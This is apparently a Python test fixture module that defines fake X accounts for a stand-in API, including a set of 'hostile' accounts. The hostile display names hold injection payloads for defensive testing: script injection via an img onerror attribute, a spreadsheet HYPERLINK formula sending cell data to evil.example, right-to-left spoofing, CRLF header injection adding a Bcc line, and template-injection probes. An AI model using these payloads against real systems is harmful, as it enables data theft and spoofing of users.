"""The X accounts that the stand-in knows."""

import hashlib
from dataclasses import dataclass

VERIFIED_TYPES = ("blue", "business", "government", "none")


@dataclass(frozen=True)
class Account:
    """A user object of X, as far as the addon can see one.

    Field names and meanings: docs.x.com/x-api/fundamentals/data-dictionary. The id
    is a 64-bit number in a string and never changes; the username may.

    :param email: the confirmed address; empty for those who signed up by phone
    :param picture: a new number is a new picture, and the old address answers 404
    :param suspended: lookups answer with an item in ``errors`` and no user
    """

    id: str
    username: str
    name: str
    verified_type: str = "none"
    email: str = ""
    protected: bool = False
    created_at: str = "2014-03-09T12:00:00.000Z"
    picture: int = 1
    suspended: bool = False

    def __post_init__(self):
        """Fail early on what X could never answer."""
        if not (self.id.isascii() and self.id.isdigit() and len(self.id) <= 19):
            raise ValueError("an id of X is a string of 1 to 19 digits")
        if self.verified_type not in VERIFIED_TYPES:
            raise ValueError(f"verified_type is one of {VERIFIED_TYPES}")

    @property
    def picture_path(self):
        """``<number>/<name>`` of the picture, as in addresses of X's media host."""
        digest = hashlib.sha256(f"{self.id}/{self.picture}".encode()).digest()
        number = int.from_bytes(digest[:8], "big") >> 4 | 1 << 59
        return f"{number}/{digest[8:14].hex()}"


# Ana and Bia differ only in the last digit: a program that reads an id as a
# floating point number takes one for the other.
ANA = Account(
    id="1745020318867001345",
    username="ana",
    name="Ana Souza",
    email="ana@example.com",
)
BIA = Account(
    id="1745020318867001347",
    username="bia",
    name="Bia Nunes",
    verified_type="blue",
)
CARLA = Account(
    id="1802113405598892032",
    username="carla",
    name="Carla Dias",
    verified_type="business",
)
BRUNO = Account(id="783214", username="bruno", name="Bruno Lima", protected=True)
DEFAULT_ACCOUNTS = (ANA, BIA, CARLA, BRUNO)

HOSTILE_ACCOUNTS = (
    Account(
        id="1900000000000000001",
        username="html_name",
        name="<img src=x onerror=alert(1)>\"'</script><b>",
    ),
    Account(
        id="1900000000000000002",
        username="formula_name",
        name='=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    ),
    Account(
        id="1900000000000000003",
        username="rtl_name",
        name="Ana\u202egnp.azuoS\u202c\u2066",
    ),
    Account(
        id="1900000000000000004",
        username="emoji_name",
        name="\U0001f469\u200d\U0001f680" * 16 + "\U0001f600\U0001f600",
    ),
    Account(
        id="1900000000000000005",
        username="newline_name",
        name="Ana\r\nBcc: victim@example.com\r\n\r\nSouza\x00",
    ),
    Account(
        id="1900000000000000006",
        username="template_name",
        name="{{ 7 * 7 }}${7 * 7}<t t-out='7 * 7'/>%(id)s",
    ),
)
